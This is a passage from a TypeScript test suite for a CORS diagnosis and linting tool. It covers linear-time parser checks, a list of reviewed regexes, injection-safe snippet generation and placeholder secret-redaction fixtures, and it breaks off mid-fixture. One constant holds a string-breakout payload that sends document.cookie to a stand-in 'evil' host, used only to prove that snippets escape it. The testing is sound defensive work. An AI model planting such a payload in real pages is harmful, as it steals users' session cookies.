/**
 * The standing adversarial suite (issue 8), grouped by class: time, injection, secrets, crash, wrong verdict,
 * size. Every reproduction from the report stays here; each bound is an input size, never a wall clock:
 * linearity is checked by doubling the input and counting the characters the scanners visit.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import ts from 'typescript'
import { describe, expect, it } from 'vitest'
import { entryLines, toJsonEntry } from '../../src/cli/report.ts'
import {
  csharpString,
  javaString,
  jsString,
  pythonString,
  rubyString,
  vclString,
} from '../../src/core/fixes/escape.ts'
import { exchangesToHar, harToExchanges } from '../../src/core/har/index.ts'
import { trimHttpWhitespace } from '../../src/core/headers.ts'
import {
  type Diagnosis,
  diagnose,
  diagnoseSafely,
  type Exchange,
  type Fix,
  scanWork,
  toHeaderList,
} from '../../src/core/index.ts'
import { tokenize } from '../../src/core/lint/caddy-lex.ts'
import {
  ConfigError,
  detectServer,
  type LintServer,
  lint,
  type SourceFile,
} from '../../src/core/lint/index.ts'
import { cutAtColon, envReferences, hasBracketPair, stripTrailingSlashes } from '../../src/core/lint/scan.ts'
import { checkCommand, curlFor, markdownReport, preflightRequest } from '../../src/panel/copy.ts'
import { exchange, preflight, response } from './exchange-builders.ts'
import { hostileExchange, PAGE, rng } from './hostile.ts'
import { checkSyntax } from './snippet-syntax.ts'

const ORIGIN = 'https://app.example'
const API = 'https://api.example/items'

/** Characters the header scanners visit while `f` runs. */
function work(f: () => void): number {
  const before = scanWork.visited
  f()
  return scanWork.visited - before
}

/** Doubling the input must not quadruple the work (a quadratic scan would): the ratio stays near 2. */
function expectLinear(build: (n: number) => Exchange, n: number): void {
  const small = work(() => diagnose(build(n)))
  const large = work(() => diagnose(build(2 * n)))
  // Allowance for the fixed work every diagnosis does, whatever the input size.
  expect(large).toBeLessThan(2.5 * small + 1_000)
}

describe('time: every parser of untrusted text is linear', () => {
  it('trimHttpWhitespace on x<40 KB of spaces>x (was quadratic: 22.9 s in diagnose)', () => {
    const w1 = work(() => trimHttpWhitespace(`x${' '.repeat(40_000)}x`))
    const w2 = work(() => trimHttpWhitespace(`${' '.repeat(40_000)}x${' '.repeat(40_000)}`))
    expect(w1).toBeLessThan(10)
    expect(w2).toBeGreaterThanOrEqual(80_000)
  })

  it('a 40 KB / 80 KB Access-Control-Allow-Origin of x<spaces>x: diagnose work doubles, not quadruples', () => {
    expectLinear(
      (n) =>
        exchange({
          response: response(200, ['Access-Control-Allow-Origin', `x${' '.repeat(n)}x`]),
        }),
      40_000,
    )
  })

  it('a 40 KB / 80 KB Vary on an allowed response (was 10.3 s)', () => {
    expectLinear(
      (n) =>
        exchange({
          outcome: { kind: 'ok' },
          response: response(200, ['Access-Control-Allow-Origin', ORIGIN], ['Vary', `a${' '.repeat(n)}b,`]),
        }),
      40_000,
    )
  })

  it('a 40 KB / 80 KB Access-Control-Allow-Headers list of blanks and commas on a preflight', () => {
    expectLinear(
      (n) =>
        exchange({
          method: 'PUT',
          requestHeaders: [
            ['Origin', ORIGIN],
            ['X-A', '1'],
          ],
          preflight: preflight(
            'PUT',
            'x-a',
            response(
              204,
              ['Access-Control-Allow-Origin', ORIGIN],
              ['Access-Control-Allow-Methods', 'PUT'],
              ['Access-Control-Allow-Headers', ` ,${' '.repeat(n)}, x-b`],
            ),
          ),
        }),
      40_000,
    )
  })

  it('every regex literal in src/ is one reviewed for backtracking (a new one fails until it is reviewed)', () => {
    const found = new Set<string>()
    const walk = (dir: string): void => {
      for (const f of readdirSync(dir)) {
        const p = join(dir, f)
        if (statSync(p).isDirectory()) walk(p)
        else if (/\.tsx?$/.test(f)) {
          const sf = ts.createSourceFile(p, readFileSync(p, 'utf8'), ts.ScriptTarget.Latest, true)
          const visit = (n: ts.Node): void => {
            if (n.kind === ts.SyntaxKind.RegularExpressionLiteral) found.add(n.getText())
            if (ts.isNewExpression(n) && n.expression.getText() === 'RegExp')
              found.add(`new RegExp(${n.getText()})`)
            ts.forEachChild(n, visit)
          }
          visit(sf)
        }
      }
    }
    walk('src')
    const unreviewed = [...found].filter((r) => !REVIEWED_REGEXES.has(r))
    expect(unreviewed).toEqual([])
  })
})

/** Doubling a hostile config must not quadruple what the lint scanners visit; `floor` proves they read it. */
function expectLinearLint(run: (n: number) => void, n: number, floor = 0.9 * n): void {
  const small = work(() => run(n))
  const large = work(() => run(2 * n))
  expect(small).toBeGreaterThanOrEqual(floor)
  expect(large).toBeLessThan(2.5 * small + 1_000)
}

/** Lints `text` as `server`, the way `cors-lens lint` would; a config it refuses is an answer too. */
function lintText(server: LintServer, text: string, more: readonly SourceFile[] = []): string {
  const file = server === 'caddy' ? 'Caddyfile' : 'httpd.conf'
  try {
    lint([{ file, text }, ...more], { server })
    return 'linted'
  } catch (e) {
    if (e instanceof ConfigError) return e.message
    throw e
  }
}

/** Strings over the characters each replaced regex cared about: where a rewrite could differ from it. */
const hostileText = (alphabet: readonly string[]) =>
  fc.array(fc.constantFrom(...alphabet), { maxLength: 24 }).map((xs) => xs.join(''))
const TERMINATORS = ['\n', '\r', '\u2028', '\u2029']

describe('time: cors-lens lint reads a hostile config in linear time', () => {
  it("each lint scanner answers what the regex it replaced answered (fast-check over ':', '/', '%{', '[', ';', line ends)", () => {
    const same = (alphabet: readonly string[], check: (s: string) => void): void =>
      fc.assert(
        fc.property(hostileText(alphabet), (s) => {
          check(s)
        }),
        { numRuns: 3000 },
      )
    same(['/', 'x', '\n'], (s) => expect(stripTrailingSlashes(s)).toBe(s.replace(/\/+$/, '')))
    same([':', 'x', ' ', ...TERMINATORS], (s) => expect(cutAtColon(s)).toBe(s.replace(/:.*$/, '')))
    same(['%{', '%', '{', '}', '}e', 'e', 'v'], (s) =>
      expect(envReferences(s)).toEqual([...s.matchAll(/%\{([^}]+)\}e/g)].map((m) => m[1])),
    )
    same(['[', ']', 'x', ...TERMINATORS], (s) => expect(hasBracketPair(s)).toBe(/\[.*\]/.test(s)))
    const caddy =
      /^[ \t]*(?:reverse_proxy|header_down|handle_path|handle_errors|file_server|respond|redir)\b[^;\n]*$/m
    const nginx =
      /^[ \t]*(?:proxy_pass|add_header|server_name|listen|location|include)\b[^\n]*;[ \t]*(?:#.*)?$/m
    const lines = ['respond', 'listen', 'redirx', 'x', ' ', '\t', ';', '#', ...TERMINATORS]
    same(lines, (s) => {
      const base = s.length % 2 === 0 ? 'x.conf' : 'Caddy'
      const want = caddy.test(s) && !nginx.test(s) ? 'caddy' : 'nginx'
      expect(detectServer({ file: base, text: s })).toBe(want)
    })
  })

  it("a ServerRoot of ////…x and an Include of a directory d////…y: each '/' strip reads only the '/'s it drops (was /\\/+$/, quadratic)", () => {
    const slashes = '/'.repeat(40_000)
    const seen: string[] = []
    const resolve = (p: string): readonly SourceFile[] | string => {
      seen.push(p)
      return p.endsWith('/*') ? [{ file: p, text: 'ServerName api.test\n' }] : `"${p}" is a directory`
    }
    const text = `ServerRoot "${slashes}x"\nInclude d${slashes}y\n`
    const w = work(() => lint([{ file: 'httpd.conf', text }], { server: 'apache', resolve }))
    expect(seen).toEqual([`${slashes}x/d${slashes}y`, `${slashes}x/d${slashes}y/*`])
    // Two strips that each stop at the last character: constant work, whatever the '/'s before it.
    expect(w).toBeGreaterThanOrEqual(2)
    expect(w).toBeLessThan(10)
    expectLinearLint((n) => stripTrailingSlashes(`x${'/'.repeat(n)}`), 40_000)
  })

  it('a Header name of ::::…<U+2028> and a value of %{%{%{…: work doubles, not quadruples (were /:.*$/ and /%\\{([^}]+)\\}e/g)', () => {
    expectLinearLint((n) => lintText('apache', `Header set "${':'.repeat(n)}\u2028" x\n`), 40_000)
    expectLinearLint(
      (n) => lintText('apache', `Header set Access-Control-Allow-Origin "${'%{'.repeat(n / 2)}"\n`),
      40_000,
    )
  })

  it('a Caddy import of [[[[…: work doubles, not quadruples (was /\\[.*\\]/)', () => {
    expectLinearLint((n) => lintText('caddy', `:80 {\n\timport ${'['.repeat(n)}\n}\n`), 20_000)
  })

  it('a 320 KB Caddy word and heredoc come back whole (the lexer flattened the growing word per character: 55 s)', () => {
    const big = 'x'.repeat(320_000)
    const budget = { words: 0, maxWords: 10 }
    expect(
      tokenize(`${big} <<END\n${big}\nEND`, 'Caddyfile', budget).map((t) => [t.text.length, t.quote]),
    ).toEqual([
      [320_000, ''],
      [320_000, '<'],
    ])
    expect(lintText('caddy', `:80 {\n\theader X-A ${big}\n}\n`)).toBe('linted')
  })

  it('a file of listen<CR>listen<CR>… or respond<CR>…: server detection work doubles, not quadruples (was one /m regex over the file)', () => {
    expectLinearLint((n) => detectServer({ file: 'site.conf', text: 'listen\r'.repeat(n / 7) }), 40_000)
    expectLinearLint(
      (n) => detectServer({ file: 'site.conf', text: `respond x\r${' \t'.repeat(n / 2)}x` }),
      40_000,
    )
  })
})

/**
 * Each is anchored or literal, with no two adjacent pieces that can match the same characters under a
 * quantifier (the shape that backtracks), or runs only on our own short strings (error names, keys).
 */
const REVIEWED_REGEXES = new Set([
  // The panel's list (src/panel/columns.ts, filter.ts): a port after the host's last ':' (each digit run ends
  // at a ':' or the end, so the work is linear), and the user's own /regex/ filter, typed in the panel, as
  // DevTools' Network filter takes one (the user's pattern, not the website's).
  '/:\\d+$/',
  "new RegExp(new RegExp(body.slice(1, -1), 'i'))",
  // Cache marks (src/core/cache-key.ts): anchored literals, and two digit runs a space keeps apart.
  '/^(refresh)?hit from cloudfront$/i',
  '/^hit$/i',
  '/^\\d+ \\d+$/',
  // S3 and CloudFront (src/core/stacks/s3.ts, cloudfront.ts, fixes/s3.ts): anchored literals, one class run
  // up to the first '/', ':', '?' or '#', and a bucket name bounded at 61 characters.
  '/^AmazonS3$/i',
  '/ from cloudfront$/i',
  // Check my config (src/core/lint/explain.ts): an anchored literal, a literal then one class run on at most
  // 2,000 characters, and one character before the end.
  '/^access-control-/i',
  '/access-control-[a-z-]+/i',
  '/\\r$/',
  '/\\(CloudFront\\)/i',
  '/^https?:\\/\\/([^/:?#]+)/i',
  '/^[a-z0-9][a-z0-9.-]{1,61}[a-z0-9]$/',
  // CDNs, edges and managed services (src/core/stacks/cloudflare.ts…, fixes/cloudflare.ts…): anchored
  // literals, a bounded hex run and a bounded letter run a '-' keeps apart, a literal host suffix.
  '/^cloudflare(-nginx)?$/i',
  '/^[0-9a-f]{16}-[a-z]{3,4}$/i',
  '/\\.workers\\.dev$/i',
  '/^vercel$/i',
  '/^[a-z]{3}\\d::/i',
  '/^\\/api(\\/|$)/',
  '/^[A-Z0-9_]{1,64}$/',
  '/^UploadServer$/i',
  '/^[a-z0-9][a-z0-9._-]{1,220}[a-z0-9]$/',
  '/[?&]upload_id=/',
  '/^cache-[a-z]{3}[a-z0-9-]{1,40}-[a-z]{3}$/i',
  '/^Windows-Azure-Blob\\//i',
  '/^Azurite-Blob\\//i',
  '/^CorsPreflightFailure$/i',
  '/^[a-z0-9]{3,24}$/',
  '/^supabase-edge-runtime$/i',
  // CI formats and terminal output (src/cli/formats.ts, terminal.ts): single character classes, one-character
  // look-arounds, and one anchored run of \s before a literal ':' — each character is tried a bounded number
  // of times.
  '/[\\\\`*_[\\]<>|&~]/g',
  '/[\\ud800-\\udbff](?![\\udc00-\\udfff])|(?<![\\ud800-\\udbff])[\\udc00-\\udfff]|[\\ufffe\\uffff]/g',
  '/[&<>"\']/g',
  '/[\\u0000-\\u001f\\u007f-\\u009f\\u061c\\u200e\\u200f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069]|##\\[/g',
  '/^(\\s*):(?=:)/',
  // cors-lens lint, Apache parse and model (src/core/lint/apache-parse.ts, apache-model.ts): anchored
  // literals and keyword alternations (one start, a word's length at most), a literal then `$` (`/>$/`,
  // `\.htaccess$`, `\.conf$`: constant work per start), one class split (each run consumed once).
  '/^(env=|expr=|early$)/i',
  '/[\\s,]+/',
  '/(^|[/\\\\])\\.htaccess$/',
  '/^(always|onsuccess)$/i',
  '/^early$/i',
  '/^expr=/i',
  '/^env=/i',
  '/^env=!?$/i',
  '/>$/',
  '/(^|\\/)(httpd|apache2?)\\.conf$/',
  '/^<\\/?(VirtualHost|Location|LocationMatch|Directory|DirectoryMatch|Files|FilesMatch|If|IfModule|ElseIf|Else)\\b/i',
  '/^(Header|RequestHeader|RewriteEngine|RewriteRule|RewriteCond|SetEnvIf|SetEnvIfNoCase|LoadModule|ProxyPass|ServerRoot|AllowOverride)\\s/',
  // Apache rules (src/core/lint/apache-rules.ts): anchored (one start; `!?` then `[^:]+` backtracks once,
  // O(n)), a run bounded at 200, literals and one-character classes; the `\s*` after the literal `Origin}`
  // and the `[\s,]` around `origin` cannot start inside an earlier run. (`%{VAR}e` is scan.ts envReferences.)
  '/^[A-Za-z0-9_$.:/*,\\- %{}=]{1,200}$/',
  '/^env=!?\\w+$/',
  '/^!/',
  '/^%\\{HTTP:Origin\\}$/i',
  '/^E=!?([^:]+)(?::(.*))?$/i',
  '/%\\{HTTP:Origin\\}/i',
  '/%\\d/',
  '/\\(\\?:/g',
  '/[()^$]/g',
  '/^(https?|http\\[s\\]\\?|https\\?|http\\(s\\)\\?):(\\\\\\/|\\/){2}/',
  '/%\\{(HTTP|req|req_novary|http):Origin\\}/i',
  '/[A-Za-z0-9\\s]/',
  '/Origin\\}\\s*(==|-in|in\\s)/i',
  '/^env=(\\w+)$/',
  '/Origin/i',
  '/%\\{(req|http|req_novary):Origin\\}/i',
  '/^HTTP(_|:)ORIGIN$/i',
  '/(^|[\\s,])origin([\\s,]|$)/i',
  '/^R(?:edirect)?(?:=(\\w+))?$/i',
  '/^%\\{REQUEST_METHOD\\}$/i',
  '/OPTIONS/i',
  '/^redirect(match|permanent|temp)?$/',
  '/^(https?|http\\(s\\)\\?|https\\?)(:\\/\\/|:\\\\\\/\\\\\\/)/',
  // Caddy lexer and model (src/core/lint/caddy-lex.ts, caddy-model.ts): the heredoc marker is refused past
  // 64 characters before its anchored one-class test; `/^\s$/u` sees one character; `/:$/` and `/^[+?>]/`
  // are a literal at the end or start.
  '/^[A-Za-z0-9_-]+$/',
  '/^\\s$/u',
  '/:$/',
  '/^[+?>]/',
  // Caddy parse (src/core/lint/caddy-parse.ts): anchored (one start: `.*` backtracks once to the last ')';
  // digit runs ended by ':' or ']'), literals, one class, and `{args[`/`{args.` whose digit run ends at a
  // non-digit. (`[…]` in an import is scan.ts hasBracketPair.)
  '/^&\\(.*\\)$/',
  '/\\*/g',
  '/\\?/g',
  '/[*?[\\]]/',
  '/^\\{args\\[(\\d*):(\\d*)\\]\\}$/',
  '/\\{args(?:\\[(\\d+)\\]|\\.(\\d+))\\}/g',
  // Caddy rules (src/core/lint/caddy-rules.ts): runs bounded at 64 or 200 and anchored, one-class and
  // literal tests, `(^|-)([a-z])` (constant work per start), an anchored scheme prefix.
  '/^[A-Za-z0-9_$.:/*,{}\\- ]{1,200}$/',
  '/(^|-)([a-z])/g',
  '/^[A-Za-z0-9_-]{1,64}$/',
  '/^[A-Za-z0-9_.:/*=?&{}-]{1,200}$/',
  '/\\{(?:http\\.request\\.)?header\\.origin\\}/i',
  '/^https?:\\/\\//',
  '/^[^A-Za-z0-9]+/',
  '/[^A-Za-z0-9.:-]/g',
  '/[^A-Za-z0-9\\\\.:/^$()?|*+_[\\]-]/',
  '/^\\(?\\??:?https?/',
  // Server detection (src/core/lint/index.ts): literal alternatives on a file's base name; the two sticky
  // directive tests run once per line start (scan.ts hasCaddyLine, hasNginxLine), and a `[ \t]*` run never
  // crosses into the next line, so no character is read by two starts.
  '/^Caddyfile|\\.caddyfile$|\\.caddy$/i',
  '/[ \\t]*(?:reverse_proxy|header_down|handle_path|handle_errors|file_server|respond|redir)\\b/y',
  '/[ \\t]*(?:proxy_pass|add_header|server_name|listen|location|include)\\b/y',
  // nginx rules (src/core/lint/nginx-rules.ts): a literal alternation, and classes tested on one character.
  '/origin|\\$/i',
  '/[A-Za-z0-9_]/',
  '/[A-Za-z0-9]/',
  // cors-lens lint (src/core/lint): anchored, literal or one character class; none has two adjacent
  // pieces that match the same characters under a quantifier.
  '/^2\\d\\d$/',
  '/^nginx: /',
  '/[*?[]/',
  '/^[A-Za-z0-9_$.:/*,\\- ]{1,200}$/',
  '/^(https?:\\/\\/|\\$scheme)/',
  '/origin/i',
  '/[ ,]+/',
  '/^https?:\\/\\/[A-Za-z0-9.-]+(:\\d+)?$/',
  '/^~\\*?/',
  '/\\)$/',
  '/^\\^/',
  '/\\$$/',
  '/[^A-Za-z0-9\\\\.:/^$()?|*+_-]/',
  '/([a-z])([A-Z])/g',
  '/Credentials/',
  '/ERR_ABORTED|NS_BINDING_ABORTED/i',
  '/ERR_BLOCKED_BY_CLIENT|ERR_BLOCKED_BY_ADMINISTRATOR|NS_ERROR_ABORT_BLOCKED/i',
  '/ERR_BLOCKED_BY_CSP|NS_ERROR_CSP/i',
  '/ERR_BLOCKED_BY_RESPONSE|ERR_BLOCKED_BY_ORB|NS_ERROR_DOM_CORP/i',
  '/ERR_CERT_|ERR_SSL_|SEC_ERROR_|SSL_ERROR_|NS_ERROR_NET_INADEQUATE_SECURITY/i',
  '/ERR_CONNECTION_(REFUSED|RESET|CLOSED|FAILED|ABORTED)|ERR_EMPTY_RESPONSE|ERR_ADDRESS_UNREACHABLE|ERR_INTERNET_DISCONNECTED|ERR_NETWORK_CHANGED|NS_ERROR_CONNECTION_REFUSED|NS_ERROR_NET_RESET|NS_ERROR_NET_INTERRUPT|NS_ERROR_OFFLINE/i',
  '/ERR_FAILED$|NS_ERROR_DOM_BAD_URI|NS_ERROR_DOM_CORP_FAILED|CORS/i',
  '/ERR_NAME_NOT_RESOLVED|ERR_NAME_RESOLUTION_FAILED|NS_ERROR_UNKNOWN_HOST/i',
  '/ERR_TIMED_OUT|ERR_CONNECTION_TIMED_OUT|NS_ERROR_NET_TIMEOUT/i',
  '/ERR_TOO_MANY_REDIRECTS|ERR_UNSAFE_REDIRECT|ERR_INVALID_REDIRECT|NS_ERROR_REDIRECT_LOOP/i',
  '/LOCAL_NETWORK|PRIVATE_NETWORK/i',
  '/Missing/',
  '/MultipleAllowOriginValues/',
  '/[ ,]/',
  '/[&#]/',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the source text of a regex literal.
  '/[.*+?^${}()|[\\]\\\\]/g',
  '/[.]/g',
  '/[:.]/g',
  '/[\\u0000-\\u0008\\u000a-\\u001f\\u007f-\\u009f]/g',
  '/\\s+/',
  '/^#/',
  '/^([^:]+):(.+)$/',
  '/^(authorization|cookie)$/i',
  '/^(connect|trace|track)$/i',
  '/^(https?):\\/\\/([^/:[\\]]+)(:\\d+)?$/i',
  '/^(https?):\\/\\/([^/:[\\]]+)(?::\\d+)?$/i',
  '/^(origin|access-control-.*|vary|location|cookie|authorization|set-cookie)$/i',
  '/^(origin|host|cookie|referer|user-agent|connection|content-length|accept-encoding|sec-|proxy-|:)/i',
  '/^HTTP\\/\\d(\\.\\d)?$/',
  '/^WSGIServer/i',
  "/^[!#$%&'*+\\-.^_`|~0-9A-Za-z]+$/",
  "/^[!#$%&'*+\\-.^_`|~0-9a-z]+\\/[!#$%&'*+\\-.^_`|~0-9a-z]+$/",
  '/^[0-9A-Za-z *,\\-.;=]*$/',
  '/^[\\d.]+$/',
  '/^[a-zA-Z][a-zA-Z0-9+.-]*:/',
  '/^[a-z][a-z0-9+.-]*:\\/\\/(\\[[0-9a-f:.]+\\]|[a-z0-9._-]+)(:[0-9]{1,5})?$/i',
  '/^\\[|\\]$/g',
  '/^\\d+$/',
  '/^\\d{3}$/',
  '/^\\s*attachment/i',
  '/^apache\\b/i',
  '/^bytes=[0-9]+-[0-9]*$/',
  '/^caddy\\b/i',
  // Varnish's X-Varnish (one or two transaction ids) and Via: anchored digits; a literal.
  '/^\\d+( \\d+)?$/',
  '/\\(varnish\\//i',
  '/^cl:r:(-?\\d+):(\\d+)$/',
  '/^cl:t:(-?\\d+)$/',
  '/^express$/i',
  '/^https?:/i',
  '/^https?:\\/\\//i',
  '/^https?:\\/\\/[^/?#]+(\\/.*)?$/is',
  '/^inferred: /',
  '/^nginx\\b/i',
  '/^uvicorn/i',
  '/^werkzeug/i',
  '/^x-rack-cors/i',
  '/`+/g',
  '/allow-headers/i',
  '/allow-origin/i',
  '/asp\\.net/i',
  '/caddy/i',
  '/credentials|allow-origin/i',
  '/disallowed cors (origin|method|headers)/i',
  '/end of (JSON )?(input|data)/i',
  '/firefox/',
  '/kestrel/i',
  '/methods/i',
  '/mixed.content|ERR_INSECURE_RESPONSE/i',
  '/nginx/i',
  '/nginx|openresty/i',
  '/openresty/i',
  '/webinspector|chrom|edge/',
  '/webinspector|playwright|cors lens/i',
  '/[\\u0000-\\u001f\\u007f-\\u009f\\u061c\\u200e\\u200f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069]/g',
  '/^vary$/i',
  '/^php\\//i',
  '/^no-cache, private$/i',
  '/^set-cookie$/i',
  '/^(laravel_session|XSRF-TOKEN)=/i',
  '/cloudfront/i',
  '/^gunicorn/i',
  '/^(puma|webrick|thin|unicorn|passenger)/i',
  '/^ {8}/',
  '/^\\/sanctum\\//',
  '/^[a-z]+:\\/\\//i',
  '/^http:/',
  '/Auth0/',
  '/Okta/',
  '/Entra/',
  '/Cognito/',
  '/^[A-Za-z0-9.-]+(:\\d+)?$/',
  '/webinspector|chrom|edge|playwright/',
  '/zap|mitmproxy|charles|fiddler|insomnia|postman|burp|proxyman|http ?toolkit/i',
  '/^(\\d{1,3})\\.(\\d{1,3})\\.(\\d{1,3})\\.(\\d{1,3})$/',
  '/^::ffff:(\\d+\\.\\d+\\.\\d+\\.\\d+)$/',
  '/^f[cd][0-9a-f]{0,2}:/',
  '/^fe[89ab][0-9a-f]?:/',
  '/\\.$/',
  '/LOCAL_NETWORK_ACCESS/i',
  '/ERR_FAILED$/',
  '/(^|\\.)auth0\\.com$/',
  '/(^|\\.)(okta|oktapreview|okta-emea)\\.com$/',
  '/^login\\.(microsoftonline|windows)\\.(com|net)$/',
  '/^(accounts\\.google\\.com|oauth2\\.googleapis\\.com)$/',
  '/^cognito-idp\\.[a-z0-9-]+\\.amazonaws\\.com$|\\.amazoncognito\\.com$/',
  '/(^|\\.)onelogin\\.com$/',
  '/\\.clerk\\.accounts\\.dev$/',
  '/^login\\.salesforce\\.com$/',
  '/(^|\\.)googleapis\\.com$/',
  '/^(api\\.)?github\\.com$/',
  '/^api\\.stripe\\.com$/',
  '/^graph\\.facebook\\.com$/',
  '/^api\\.(twitter|x)\\.com$/',
  '/^api\\.openai\\.com$/',
  '/(^|\\.)slack\\.com$/',
  '/^api\\.mapbox\\.com$/',
  '/^(cdn\\.jsdelivr\\.net|unpkg\\.com|cdnjs\\.cloudflare\\.com|fonts\\.gstatic\\.com)$/',
  '/^GitHub\\.com$/i',
  '/^(co|com|net|org|gov|ac|edu|ne|or)\\.[a-z]{2}$/',
  '/\\.(test|localhost|local|internal|example|invalid|lan|home\\.arpa)$/',
  // The one recommendation (src/core/fixes/recommend.ts, shared.ts): a single character class; anchored
  // classes with a bounded count, on header names and values the engine already holds.
  '/[:;(]/',
  '/^[A-Za-z0-9*:/._-]{1,200}$/',
  '/^[A-Za-z0-9*:/._, -]{1,200}$/',
  '/^access-control-[a-z-]{1,40}$/i',
])

const EVIL = "'+fetch('//evil/'+document.cookie)+'"

/** A redirected preflight whose Location a server chose. */
const redirectedPreflight = (location: string, method = 'PUT'): Exchange =>
  exchange({
    method,
    preflight: preflight(method, null, response(302, ['Location', location], ['Server', 'nginx/1.22.1'])),
  })

const allFixes = (xs: readonly Exchange[]): Fix[] => xs.flatMap((x) => diagnose(x).fixes)

describe('injection: every snippet parses in its language, whatever the input', () => {
  it("a ' in a redirect Location cannot close the client fix's fetch('…') string", () => {
    const fix = diagnose(redirectedPreflight(`https://api.example/next?x=${EVIL}`)).fixes.find(
      (f) => f.stack === 'client',
    )
    expect(fix?.snippet).not.toContain("'+fetch('//evil/")
    expect(fix?.snippet).toContain("fetch('https://api.example/next?x=")
    expect(checkSyntax(fix ? [fix] : []).failures).toEqual([])
  })

  it('a method named __proto__ never reaches a plain-object lookup (was app.[object Object](…))', () => {
    const d = diagnose(
      exchange({
        method: '__proto__',
        preflight: preflight(
          '__proto__',
          null,
          response(204, ['Access-Control-Allow-Origin', ORIGIN], ['X-Powered-By', 'ASP.NET']),
        ),
      }),
    )
    const aspnet = d.fixes.find((f) => f.stack === 'aspnet')
    expect(aspnet?.snippet).not.toContain('[object Object]')
    expect(aspnet?.snippet).toContain('app.MapMethods("/items", new[] { "__proto__" }')
  })

  it('header names that are not tokens are left out, with a comment saying so and why', () => {
    const d = diagnose(
      exchange({
        method: 'PUT',
        requestHeaders: [
          ['Origin', ORIGIN],
          ['X-Ok', '1'],
        ],
        preflight: preflight(
          'PUT',
          'x-ok,x"y,a b',
          response(204, ['Access-Control-Allow-Origin', ORIGIN], ['Server', 'nginx/1.22.1']),
        ),
      }),
    )
    for (const fix of d.fixes) {
      expect(fix.snippet).toContain('left out the request header "x?y"')
      expect(fix.snippet).toContain('not an HTTP token')
      for (const c of fix.changes) expect(c.snippet).not.toContain('a b')
    }
    expect(d.fixes.some((f) => f.stack === 'nginx')).toBe(true)
  })

  it('the string escapers read back as the input in every language they target (quotes, \\, \\u, line separators)', () => {
    const nasty = `a'b"c\\d\n\r\u2028\u0000\\u0022$\{x}#{y}%{z}é😀\ud800`
    expect(JSON.parse(csharpString(nasty))).toBe(nasty)
    // biome-ignore lint/security/noGlobalEval: the literal is ours, evaluated to prove it reads back exactly.
    expect(eval(jsString(nasty))).toBe(nasty)
    expect(JSON.parse(pythonString(nasty))).toBe(nasty)
    expect(javaString('"\n')).toBe('"\\"\\012"')
    expect(javaString('\\u0022')).toBe('"\\\\u0022"')
    expect(rubyString("#{x}'\\")).toBe("'#{x}\\'\\\\'")
  })

  it('hostile origins, methods, header names, paths and Locations: every generated snippet parses (node, python, javac, ruby, nginx -t, apache2 -t, caddy adapt)', () => {
    const seeds = fc.sample(fc.integer(), { numRuns: 400, seed: 8 })
    const fixes = allFixes(seeds.map((s) => hostileExchange(rng(s))))
    const report = checkSyntax(fixes)
    expect(report.failures).toEqual([])
    // Every checker ran on something: a generator that stopped reaching a stack would pass silently.
    for (const lang of ['js', 'python', 'java', 'nginx', 'apache', 'caddy'])
      expect(report.checked[lang] ?? 0, `${lang} (missing: ${report.missing.join(', ')})`).toBeGreaterThan(0)
  })
})

/** The same hostile exchange with Varnish's mark on each response: its recipe is what gets generated. */
function behindVarnish(x: Exchange): Exchange {
  const mark = (r: Exchange['response']) =>
    r && { ...r, headers: [...r.headers, { name: 'X-Varnish', value: '32770' }] }
  const response = mark(x.response)
  const pre = x.preflight?.response ? { ...x.preflight, response: mark(x.preflight.response) } : x.preflight
  return { ...x, ...(response ? { response } : {}), ...(pre ? { preflight: pre } : {}) }
}

describe('Varnish: VCL strings and generated VCL', () => {
  it('vclString quotes what VCL can say and refuses the rest (no escapes in VCL)', () => {
    expect(vclString('https://a.example')).toBe('"https://a.example"')
    expect(vclString('a"b')).toBe('{"a"b"}')
    expect(vclString('a"}b')).toBe(null)
    expect(vclString('a\nb')).toBe(null)
    expect(vclString('é')).toBe(null)
  })

  it('hostile origins, methods and header names behind Varnish: every VCL snippet compiles (varnishd -C)', () => {
    const seeds = fc.sample(fc.integer(), { numRuns: 200, seed: 9 })
    const fixes = allFixes(seeds.map((s) => behindVarnish(hostileExchange(rng(s)))))
    const report = checkSyntax(fixes.filter((f) => f.stack === 'varnish'))
    expect(report.missing).toEqual([])
    expect(report.failures).toEqual([])
    expect(report.checked.vcl ?? 0).toBeGreaterThan(0)
  })
})

/** One distinct secret in every place a secret can hide. */
const SECRETS = {
  cookie: 'cookieSECRET0001',
  setCookie: 'setcookieSECRET0002',
  authorization: 'authSECRET0003',
  proxyAuthorization: 'proxyauthSECRET0004',
  apiKey: 'apikeySECRET0005',
  authToken: 'authtokenSECRET0006',
  apikeyBare: 'apikeybareSECRET0007',
  accessToken: 'accesstokenSECRET0008',
  code: 'oauthcodeSECRET0009',
  idToken: 'idtokenSECRET0010',
  apiKeyParam: 'apikeyparamSECRET0011',
  sig: 'sigSECRET0012',
  location: 'locationSECRET0013',
  redirectURL: 'redirecturlSECRET0014',
  referer: 'refererSECRET0015',
  body: 'bodySECRET0016',
  password: 'passwordSECRET0017',
}

function plantedExchange(): Exchange {
  const s = SECRETS
  const url = `${API}?access_token=${s.accessToken}&code=${s.code}&id_token=${s.idToken}&api_key=${s.apiKeyParam}&sig=${s.sig}`
  const requestHeaders: [string, string][] = [
    ['Origin', ORIGIN],
    ['Cookie', `sid=${s.cookie}`],
    ['Authorization', `Bearer ${s.authorization}`],
    ['Proxy-Authorization', `Basic ${s.proxyAuthorization}`],
    ['X-Api-Key', s.apiKey],
    ['X-Auth-Token', s.authToken],
    ['apikey', s.apikeyBare],
    ['Referer', `https://app.example/page?token=${s.referer}`],
  ]
  return {
    ...exchange({
      method: 'PUT',
      url,
      requestHeaders,
      credentials: 'include',
      preflight: {
        request: {
          method: 'OPTIONS',
          url,
          headers: [
            { name: 'Origin', value: ORIGIN },
            { name: 'Access-Control-Request-Method', value: 'PUT' },
            { name: 'Access-Control-Request-Headers', value: 'authorization,x-api-key,x-auth-token,apikey' },
          ],
        },
        response: {
          status: 302,
          headers: [
            { name: 'Location', value: `https://api.example/login?state=${s.location}` },
            { name: 'Set-Cookie', value: `sid=${s.setCookie}; Path=/` },
          ],
          bodySnippet: `<p>${s.body}</p>`,
        },
      },
      redirects: [
        {
          fromUrl: url,
          status: 302,
          headers: [
            { name: 'Location', value: `https://u:${s.password}@api.example/x?sig=${s.redirectURL}` },
          ],
